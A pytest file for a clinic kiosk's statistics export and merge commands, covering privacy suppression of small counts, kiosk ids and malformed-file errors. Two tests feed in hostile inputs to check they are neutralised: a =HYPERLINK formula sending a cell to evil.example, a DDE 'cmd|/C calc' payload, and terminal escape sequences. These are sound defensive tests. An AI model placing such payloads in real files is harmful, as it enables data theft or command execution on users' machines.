"""Figures across sites (issue 20, item 3): `kiosk stats --csv` and `--json` always print their
format and carry the kiosk's id, and `kiosk stats merge` sums several kiosks' exports into one
report with the small-cell rule kept; a file that is not an export is named, with its line."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import socket
from collections.abc import Callable
from pathlib import Path

import pytest

from kiosk.cli import main
from kiosk.content import ContentError, load_content
from kiosk.core.exports import export_of, json_data, summary_of
from kiosk.core.stats import DayCounts, sample_rows
from kiosk.stats_store import StatsStore, default_db_path

TODAY = dt.date(2026, 11, 20)
"""The last day of the exports here (`--until`): a fixed day, so that no test depends on the
clock (a run across midnight once lost 'yesterday' from a two-day export)."""
UNTIL = ["--until", TODAY.isoformat()]
Capture = pytest.CaptureFixture[str]
HEAD = "kiosk_id,day,metric,key,count\n"
FEWER_5 = "fewer than 5 visits"


def visits(day: dt.date, n: int, outcome: str = "see_doctor") -> list[DayCounts]:
    made = []
    for _ in range(n):
        counts = DayCounts(day)
        counts.add("visits")
        counts.add("results")
        counts.add("outcome", outcome)
        counts.add("ended", "finish")
        made.append(counts)
    return made


class Site:
    """One kiosk's data folder and id; exports its figures as `kiosk stats` does there."""

    def __init__(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, ident: str) -> None:
        self.folder = tmp_path / ident
        self.ident = ident
        self.monkeypatch = monkeypatch

    def use(self) -> None:
        self.monkeypatch.setenv("KIOSK_DATA_DIR", str(self.folder))
        self.monkeypatch.setenv("KIOSK_ID", self.ident)

    def record(self, counts: list[DayCounts]) -> None:
        self.use()
        store = StatsStore(default_db_path(), flush_seconds=60)
        for item in counts:
            store.record(item)
        store.close()

    def export(self, capsys: Capture, form: str, days: int = 30) -> Path:
        self.use()
        assert main(["stats", "--days", str(days), *UNTIL, f"--{form}"]) == 0
        path = self.folder.parent / f"{self.ident}.{form}"
        path.write_text(capsys.readouterr().out, "utf-8")
        return path

    def export_now(self, capsys: Capture, form: str) -> str:
        """The export `kiosk stats --FORM` prints now (the period ends today)."""
        self.use()
        assert main(["stats", "--days", "2", f"--{form}"]) == 0
        return capsys.readouterr().out


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Site:
    return Site(tmp_path, monkeypatch, "elm-road-1")


def test_json_and_csv_are_printed_in_their_format_when_there_are_no_figures_yet(
    site: Site, capsys: Capture
) -> None:
    site.use()
    assert main(["stats", "--json"]) == 0
    out, err = capsys.readouterr()
    report = json.loads(out)  # a script can read it
    assert report["kiosk_id"] == "elm-road-1"
    assert report["visits"] == 0 and report["rows"] == [] and len(report["per_day"]) == 30
    assert err.startswith("kiosk stats: no figures yet (")
    assert main(["stats", "--csv", *UNTIL]) == 0
    out, err = capsys.readouterr()
    # the header, and the period's two ends with no visits: the file names its kiosk and days
    first = (TODAY - dt.timedelta(days=29)).isoformat()
    assert out == (
        "kiosk_id,day,metric,key,count,left_out\n"
        f"elm-road-1,{first},visits,,0,\nelm-road-1,{TODAY.isoformat()},visits,,0,\n"
    )
    assert "no figures yet" in err
    assert not default_db_path().exists()


def test_the_kiosk_id_comes_from_kiosk_id_the_settings_or_the_host_name(
    site: Site, capsys: Capture, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, content_text: str
) -> None:
    site.record(visits(TODAY, 2))
    assert main(["stats", "--csv", *UNTIL]) == 0
    lines = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert len(lines) > 1 and {line[0] for line in lines[1:]} == {"elm-road-1"}
    monkeypatch.delenv("KIOSK_ID")
    assert main(["stats", "--json", *UNTIL]) == 0
    assert json.loads(capsys.readouterr().out)["kiosk_id"] == socket.gethostname()
    content = tmp_path / "content.yaml"
    content.write_text(
        content_text.replace("  idle_seconds: 90", "  kiosk_id: harbour-2\n  idle_seconds: 90"),
        "utf-8",
    )
    (tmp_path / "assets").symlink_to(Path(__file__).resolve().parents[2] / "assets")
    assert main(["stats", "--json", *UNTIL, "--content", str(content)]) == 0
    assert json.loads(capsys.readouterr().out)["kiosk_id"] == "harbour-2"


def test_merge_sums_csv_and_json_exports_of_several_kiosks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture
) -> None:
    sites = [Site(tmp_path, monkeypatch, name) for name in ("elm-1", "elm-2", "harbour-1")]
    files = []
    for n, site in enumerate(sites):
        rows = sample_rows(TODAY, days=10)
        site.record([_counts(row) for row in rows])
        files.append(site.export(capsys, "json" if n == 2 else "csv"))
    one = json.loads(sites[2].export(capsys, "json").read_text("utf-8"))
    assert main(["stats", "merge", *map(str, files), "--json"]) == 0
    merged = json.loads(capsys.readouterr().out)
    assert merged["kiosk_id"] == "merged"
    assert merged["kiosks"] == ["elm-1", "elm-2", "harbour-1"]
    assert merged["visits"] == 3 * one["visits"]
    assert merged["results"] == 3 * one["results"]
    assert merged["ended"] == {k: 3 * v for k, v in one["ended"].items()}
    assert merged["outcomes"] == {k: 3 * v for k, v in one["outcomes"].items()}
    assert main(["stats", "merge", *map(str, files)]) == 0
    table = capsys.readouterr().out
    assert table.startswith("3 kiosks: elm-1, elm-2, harbour-1\nUsage figures, ")
    assert f"{'total':<12}{3 * one['visits']:>8}{3 * one['results']:>9}" in table
    assert main(["stats", "merge", *map(str, files), "--csv"]) == 0
    lines = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert lines[0] == ["kiosk_id", "day", "metric", "key", "count", "left_out"]
    visits_csv = sum(int(line[4]) for line in lines[1:] if line[2] == "visits")
    assert visits_csv == 3 * one["visits"]


def _counts(row: object) -> DayCounts:
    day, metric, key, n = row  # type: ignore[misc]
    counts = DayCounts(day)
    counts.add(metric, key, n)
    return counts


def test_merge_keeps_the_small_cell_rule(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture
) -> None:
    """A kiosk with a lone visitor (a red flag) leaves its outcome out, and the sum leaves it
    out too; two small kiosks whose sum is still small show no outcome either."""
    yesterday = TODAY - dt.timedelta(days=1)
    busy, quiet, tiny = (Site(tmp_path, monkeypatch, n) for n in ("busy", "quiet", "tiny"))
    busy.record(visits(TODAY, 10))
    quiet.record(visits(TODAY, 1, outcome="urgent") + visits(yesterday, 3, outcome="urgent"))
    tiny.record(visits(yesterday, 1, outcome="urgent"))
    files = [site.export(capsys, "csv", days=2) for site in (busy, quiet, tiny)]
    assert main(["stats", "merge", *map(str, files), "--json"]) == 0
    merged = json.loads(capsys.readouterr().out)
    days = {day["day"]: day for day in merged["per_day"]}
    assert days[TODAY.isoformat()]["visits"] == 11
    assert days[TODAY.isoformat()]["outcomes"] == {"see_doctor": 10}  # no lone red flag
    assert days[yesterday.isoformat()]["visits"] == 4
    assert days[yesterday.isoformat()]["outcomes"] == "fewer than 5"
    assert "urgent" not in json.dumps(merged["outcomes"])
    assert merged["urgent"] == 0
    assert {"day": TODAY.isoformat(), "metric": "outcome", "kiosk_id": "quiet"} in merged[
        "left_out_by"
    ]
    assert main(["stats", "merge", *map(str, files)]) == 0
    table = capsys.readouterr().out
    assert "urgent: 0" in table and "left out of the sums" in table
    # which kiosk left which days out, by name (fleet tester: the table only counted them)
    assert f"  quiet: {yesterday.isoformat()}, {TODAY.isoformat()}\n" in table
    assert f"  tiny: {yesterday.isoformat()}\n" in table


@pytest.mark.parametrize(
    ("text", "line", "problem"),
    [
        ("clinic:\n  name: Willow Street\n", 1, "not an export of `kiosk stats --csv`"),
        ("day,metric,key,count\n2026-01-02,visits,,3\n", 1, "the first line must be kiosk_id,"),
        (
            "kiosk_id,day,metric,key,count\nelm,2026-01-02,visits,,3\nelm,2026-01-02,visits,,x\n",
            3,
            "the count 'x' is not a whole number",
        ),
        ("kiosk_id,day,metric,key,count\nelm,tuesday,visits,,3\n", 2, "'tuesday' is not a day"),
        ("kiosk_id,day,metric,key,count\nelm,2026-01-02,visits\n", 2, "expected 5 fields"),
        ('{"visits": 3,\n "per_day": [}', 2, "not an export of `kiosk stats --csv`"),
        ('{\n  "visits": 3\n}\n', 1, 'it has no "rows"'),
        # issue 28: counts are plain ASCII whole numbers in range, a row is given once
        *(
            (f"{HEAD}elm,2026-01-02,visits,,3\nelm,2026-01-03,visits,,{count}\n", 3, problem)
            for count, problem in [
                ("1e30", "the count '1e30' is not a whole number written in the digits 0-9"),
                ("\u0665", "is not a whole number written in the digits 0-9"),
                ('" 7 "', "the count ' 7 ' is not a whole number"),
                ("1_000", "the count '1_000' is not a whole number"),
                ("-1", "the count '-1' is not a whole number"),
                ("99999999999999999999", "is not a whole number written in the digits 0-9"),
            ]
        ),
        (
            f"{HEAD}elm,2026-01-02,visits,,3\nelm,2026-01-02,ended,finish,3\n"
            "elm,2026-01-02,visits,,3\n",
            4,
            "2026-01-02 'visits' '' is given twice (first on line 2)",
        ),
        (
            f"{HEAD}elm,2026-01-02,urgent,,{FEWER_5}\nelm,2026-01-02,urgent,,{FEWER_5}\n",
            3,
            "the left-out 2026-01-02 'urgent' is given twice (first on line 2)",
        ),
        (
            f"{HEAD}elm\x1b]0;owned\x07,2026-01-02,visits,,3\n",
            2,
            "the kiosk id 'elm\\x1b]0;owned\\x07' holds a control character: refused",
        ),
        (
            '{"kiosk_id": "elm",\n "rows": [\n  {"day": "2026-01-02", "metric": "visits", '
            '"key": "", "count": 2},\n  {"day": "2026-01-03", "metric": "visits", '
            '"key": "", "count": true}\n]}\n',
            4,
            "the count 'True' is not a whole number",
        ),
        (
            '{"kiosk_id": "elm",\n "rows": [\n  {"day": "2026-01-02", "metric": "visits", '
            '"key": "", "count": 2},\n  {"day": "2026-01-02", "metric": "visits", '
            '"key": "", "count": 2}\n]}\n',
            4,
            "is given twice (first on line 3)",
        ),
    ],
)
def test_merge_names_a_file_that_is_not_an_export_and_its_line(
    tmp_path: Path, capsys: Capture, text: str, line: int, problem: str
) -> None:
    good = tmp_path / "good.csv"
    good.write_text("kiosk_id,day,metric,key,count\ngood,2026-01-02,visits,,3\n", "utf-8")
    bad = tmp_path / "bad.export"
    bad.write_text(text, "utf-8")
    assert main(["stats", "merge", str(good), str(bad)]) == 1
    out, err = capsys.readouterr()
    assert out == ""
    assert err.startswith(f"kiosk stats merge: {bad}:{line}: "), err
    assert problem in err
    assert "Traceback" not in err


def test_merge_refuses_a_missing_file_and_one_kiosk_given_twice(
    tmp_path: Path, capsys: Capture
) -> None:
    one = tmp_path / "one.csv"
    one.write_text("kiosk_id,day,metric,key,count\nelm,2026-01-02,visits,,3\n", "utf-8")
    again = tmp_path / "again.csv"
    again.write_text(one.read_text("utf-8"), "utf-8")
    assert main(["stats", "merge", str(one), str(tmp_path / "gone.csv")]) == 1
    assert capsys.readouterr().err == f"kiosk stats merge: {tmp_path / 'gone.csv'} does not exist\n"
    assert main(["stats", "merge", str(one), str(again)]) == 1
    err = capsys.readouterr().err
    assert f"{again}:2: kiosk 'elm' is also in {one}; give each kiosk once" in err


def test_a_bad_kiosk_id_in_the_content_is_named_with_its_line(
    content_text: str, write_content: Callable[[str], Path]
) -> None:
    text = content_text.replace("  idle_seconds: 90", "  kiosk_id: front desk!\n  idle_seconds: 90")
    path = write_content(text)
    with pytest.raises(ContentError) as caught:
        load_content(path)
    line = next(i + 1 for i, t in enumerate(text.splitlines()) if "kiosk_id" in t)
    assert (
        f"content.yaml:{line}: settings.kiosk_id: expected a name of letters, digits, '.', '_'"
        " and '-' (like elm-road-1), got 'front desk!'"
    ) in caught.value.report()


def test_until_picks_the_last_day_so_every_kiosk_exports_the_same_days(
    site: Site, capsys: Capture
) -> None:
    """`--until` ends the period on a given day (default today): a chain's timers give the same
    days on every kiosk, whatever hour each one runs."""
    week_before = TODAY - dt.timedelta(days=7)
    site.record(visits(TODAY, 6) + visits(week_before, 5))
    assert main(["stats", "--days", "7", "--until", TODAY.isoformat(), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["visits"] == 6
    earlier = (TODAY - dt.timedelta(days=1)).isoformat()
    assert main(["stats", "--days", "7", "--until", earlier, "--csv"]) == 0
    lines = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert [line for line in lines[1:] if line[2] == "visits"] == [
        ["elm-road-1", week_before.isoformat(), "visits", "", "5", ""],
        ["elm-road-1", earlier, "visits", "", "0", ""],  # the period's end, with no visits
    ]
    today = dt.date.today()
    site.record(visits(today, 5))
    assert main(["stats", "--days", "1", "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["per_day"][-1]["day"] in {today.isoformat(), dt.date.today().isoformat()}


def test_an_until_that_is_not_a_day_is_named(site: Site, capsys: Capture) -> None:
    site.use()
    with pytest.raises(SystemExit) as stopped:
        main(["stats", "--until", "20/11/2026"])
    assert stopped.value.code == 2
    assert "'20/11/2026' is not a day written like 2026-11-29" in capsys.readouterr().err


def test_a_lone_visitors_result_screen_is_hidden_like_their_outcome(
    site: Site, capsys: Capture
) -> None:
    """Which result a visitor saw is their outcome: on a day of fewer than 5 visits, the
    views and times of the result's screen are left out of the table, CSV and JSON (a fleet
    tester read a lone red flag from 'result:urgent 1'); on a busy day they are shown."""
    lone = visits(TODAY, 1, outcome="urgent")
    busy = visits(TODAY - dt.timedelta(days=1), 6)
    for counts, result in [(lone[0], "result:urgent"), *((c, "result:see_doctor") for c in busy)]:
        counts.add("screen", result)
        counts.add("time 0-2", result)
        counts.add("screen", "screen:welcome")
    site.record(lone + busy)
    assert main(["stats", "--days", "1", *UNTIL]) == 0
    table = capsys.readouterr().out
    assert "screen:welcome" in table and "result:" not in table
    assert main(["stats", "--days", "2", *UNTIL, "--csv"]) == 0
    lines = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    shown = {(line[1], line[3]) for line in lines[1:] if line[2] in ("screen", "time 0-2")}
    assert (TODAY.isoformat(), "result:urgent") not in shown
    assert (TODAY.isoformat(), "screen:welcome") in shown
    assert ((TODAY - dt.timedelta(days=1)).isoformat(), "result:see_doctor") in shown
    assert main(["stats", "--days", "1", *UNTIL, "--json"]) == 0
    assert "result:urgent" not in capsys.readouterr().out


def test_kiosks_with_no_figures_yet_merge_with_the_others(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture
) -> None:
    """A month before two kiosks were set up: their exports are empty but named, so the
    chain's report sums all three instead of refusing two 'same' kiosks (fleet tester); a
    header alone, from an older kiosk, adds nothing and is no kiosk of its own."""
    elm, oak, cedar = (Site(tmp_path, monkeypatch, n) for n in ("elm", "oak", "cedar"))
    cedar.record(visits(TODAY, 6))
    files = [site.export(capsys, "csv") for site in (elm, oak, cedar)]
    old = tmp_path / "old.csv"
    old.write_text("kiosk_id,day,metric,key,count\n", "utf-8")
    assert main(["stats", "merge", *map(str, files), str(old), "--json"]) == 0
    merged = json.loads(capsys.readouterr().out)
    assert merged["kiosks"] == ["elm", "oak", "cedar"]
    assert merged["visits"] == 6


@pytest.mark.parametrize("form", ["csv", "json"])
def test_a_merged_report_covers_the_whole_period_of_the_exports(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture, form: str
) -> None:
    """Two 30-day exports whose visits fell on one day merge into a 30-day report, not a
    one-day one (fleet tester: '2026-12-06 to 2026-12-06 (1 days)')."""
    elm, oak = (Site(tmp_path, monkeypatch, n) for n in ("elm", "oak"))
    elm.record(visits(TODAY, 6))
    oak.record(visits(TODAY, 5))
    files = [site.export(capsys, form) for site in (elm, oak)]
    assert main(["stats", "merge", *map(str, files), "--json"]) == 0
    merged = json.loads(capsys.readouterr().out)
    days = [day["day"] for day in merged["per_day"]]
    assert days[0] == (TODAY - dt.timedelta(days=29)).isoformat() and len(days) == 30
    assert days[-1] == TODAY.isoformat() and merged["visits"] == 11


def test_two_exports_around_one_urgent_visit_today_differ_in_nothing_it_answered(
    site: Site, capsys: Capture
) -> None:
    """Issue 28: on a day of 6 visits, exports before and after one urgent visit differed by
    `outcome,urgent,1`, `urgent,,1` and `screen,result:urgent,1`. Today's figures that follow
    from answers are left out ('day not over') until the day is over; only visits, results,
    how visits ended and the screens before the self-check move."""
    today = dt.date.today()
    six = visits(today, 6)
    for counts in six:
        counts.add("screen", "result:see_doctor")
    site.record(six)
    before = set(map(tuple, csv.reader(io.StringIO(site.export_now(capsys, "csv")))))
    urgent = visits(today, 1, outcome="urgent")[0]
    urgent.add("urgent")
    urgent.add("screen", "result:urgent")
    site.record([urgent])
    after = set(map(tuple, csv.reader(io.StringIO(site.export_now(capsys, "csv")))))
    changed = {line[2] for line in before ^ after}
    assert changed <= {"visits", "results", "ended", "language"}, before ^ after
    left_out = {line[2] for line in after if line[5] == "day not over" and not line[4]}
    assert left_out == {"outcome", "urgent", "stopped", "after_result"}
    assert not any(line[3].startswith("result:") for line in after)
    json_before = json.loads(site.export_now(capsys, "json"))
    assert json_before["urgent"] == "day not over"
    assert main(["stats", "--days", "1"]) == 0
    assert "urgent: day not over" in capsys.readouterr().out
    # a merge made today keeps today out, whatever the exports said
    older = site.folder.parent / "older.csv"
    older.write_text(
        f"kiosk_id,day,metric,key,count\nold,{today},visits,,9\nold,{today},urgent,,1\n", "utf-8"
    )
    assert main(["stats", "merge", str(older), "--csv"]) == 0
    merged = capsys.readouterr().out
    assert f"merged,{today},urgent,,,day not over" in merged
    assert f"merged,{today},urgent,,1," not in merged


FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def test_no_cell_a_spreadsheet_would_run_reaches_an_export_or_a_merge(
    site: Site, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """OWASP CSV injection: a kiosk id `=HYPERLINK(...)` and a crafted export's key
    `@SUM(1+1)*cmd|'/C calc'!A0` are written with a leading quote, so a spreadsheet shows
    them as text; read back, the quote is taken off again."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    site.record(visits(TODAY, 6))
    monkeypatch.setenv("KIOSK_ID", hostile)
    monkeypatch.setenv("KIOSK_DATA_DIR", str(site.folder))
    assert main(["stats", "--days", "2", *UNTIL, "--csv"]) == 0
    exported = site.folder.parent / "hostile.csv"
    exported.write_text(capsys.readouterr().out, "utf-8")
    cells = [cell for line in csv.reader(io.StringIO(exported.read_text())) for cell in line]
    assert "'" + hostile in cells
    assert not [cell for cell in cells if cell.startswith(FORMULAS)]
    crafted = site.folder.parent / "crafted.csv"
    crafted.write_text(
        f"{HEAD}crafted,{TODAY},screen,\"@SUM(1+1)*cmd|'/C calc'!A0\",7\ncrafted,{TODAY},-2+3,,1\n",
        "utf-8",
    )
    for form in ("--csv", "--json"):
        assert main(["stats", "merge", str(exported), str(crafted), form]) == 0
        out = capsys.readouterr().out
        if form == "--csv":
            merged = [cell for line in csv.reader(io.StringIO(out)) for cell in line]
            assert not [cell for cell in merged if cell.startswith(FORMULAS)], merged
            assert "'@SUM(1+1)*cmd|'/C calc'!A0" in merged and "'-2+3" in merged
        else:
            assert json.loads(out)["kiosks"] == [hostile, "crafted"]  # the id itself, unchanged


def test_no_control_character_reaches_the_terminal(
    site: Site, capsys: Capture, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """A kiosk id with an ESC sequence (which could retitle or clear the terminal) is written
    as its escape in every export and table; one read from an export is refused by name."""
    site.record(visits(TODAY, 6))
    monkeypatch.setenv("KIOSK_ID", "elm\x1b[2J\x1b]0;owned\x07")
    monkeypatch.setenv("KIOSK_DATA_DIR", str(site.folder))
    for form in ("--csv", "--json"):
        assert main(["stats", "--days", "1", *UNTIL, form]) == 0
        out = capsys.readouterr().out
        assert "\x1b" not in out and "\x07" not in out
        shown = out if form == "--csv" else json.loads(out)["kiosk_id"]
        assert "elm\\x1b[2J" in shown
    path = tmp_path / "esc.csv"
    path.write_text(f"{HEAD}ok,{TODAY},visits,,6\nok,{TODAY},language,\x1b[31mred,6\n", "utf-8")
    assert main(["stats", "merge", str(path)]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"kiosk stats merge: {path}:3: the key '\\x1b[31mred' holds a control")
    assert "\x1b" not in err


def test_a_year_of_two_kiosks_merges_exactly_and_names_a_late_bad_row_by_its_line(
    tmp_path: Path, capsys: Capture
) -> None:
    """The merge reads each row once (it was quadratic: 37.6 s for one year of JSON); its
    speed is measured by bench/merge.py, not here. Here: the sums of two one-year exports
    are exact, and a bad row near the end of a long JSON export is still named by its
    own line."""
    end = TODAY - dt.timedelta(days=1)
    rows = sample_rows(end, days=365)
    files = []
    for ident in ("elm", "oak"):
        export = export_of(rows, 365, end, ident)
        path = tmp_path / f"{ident}.json"
        path.write_text(json.dumps(json_data(export, summary_of(export)), indent=2), "utf-8")
        files.append(path)
    assert main(["stats", "merge", *map(str, files), "--json"]) == 0
    merged = json.loads(capsys.readouterr().out)
    assert merged["visits"] == 2 * sum(r.n for r in rows if r.metric == "visits")
    text = files[1].read_text("utf-8")
    last = text.rindex('"count": ')
    files[1].write_text(text[:last] + '"count": "1e30"' + text[text.index("\n", last) :])
    line = text[:last].count("\n") + 1
    assert main(["stats", "merge", *map(str, files)]) == 1
    assert capsys.readouterr().err.startswith(
        f"kiosk stats merge: {files[1]}:{line - 4}: the count '1e30'"
    )


def test_the_csv_count_column_holds_numbers_only_and_names_the_kiosks_that_left_a_cell_out(
    site: Site, capsys: Capture, tmp_path: Path
) -> None:
    """Fleet tester: the merged CSV's count column mixed numbers with "fewer than 5 visits",
    so pandas read it as text (visits summed to "019"), and a left-out row did not say which
    kiosk left its day out. The count is a number or empty; why a cell is left out, and by
    which kiosks, stands in a column of its own."""
    day = TODAY - dt.timedelta(days=3)
    busy = tmp_path / "busy.csv"
    busy.write_text(
        f"{HEAD}busy,{day},visits,,9\nbusy,{day},urgent,,2\nbusy,{day},outcome,urgent,2\n",
        "utf-8",
    )
    quiet = tmp_path / "quiet.csv"
    quiet.write_text(
        f"{HEAD}quiet,{day},visits,,2\nquiet,{day},urgent,,{FEWER_5}\n"
        f"quiet,{day},outcome,,{FEWER_5}\n",
        "utf-8",
    )
    assert main(["stats", "merge", str(busy), str(quiet), "--csv"]) == 0
    lines = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert lines[0] == ["kiosk_id", "day", "metric", "key", "count", "left_out"]
    for line in lines[1:]:
        assert line[4] == "" or line[4].isdigit(), line  # a spreadsheet sums this column
        assert bool(line[4]) != bool(line[5]), line  # a count, or why it is left out
    assert ["merged", day.isoformat(), "visits", "", "11", ""] in lines
    assert ["merged", day.isoformat(), "urgent", "", "2", ""] in lines
    assert ["merged", day.isoformat(), "urgent", "", "", f"{FEWER_5}: quiet"] in lines
    # the merged file reads back, as an export of the new form
    again = tmp_path / "merged.csv"
    again.write_text("\n".join(",".join(line) for line in lines) + "\n", "utf-8")
    assert main(["stats", "merge", str(again), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["visits"] == 11
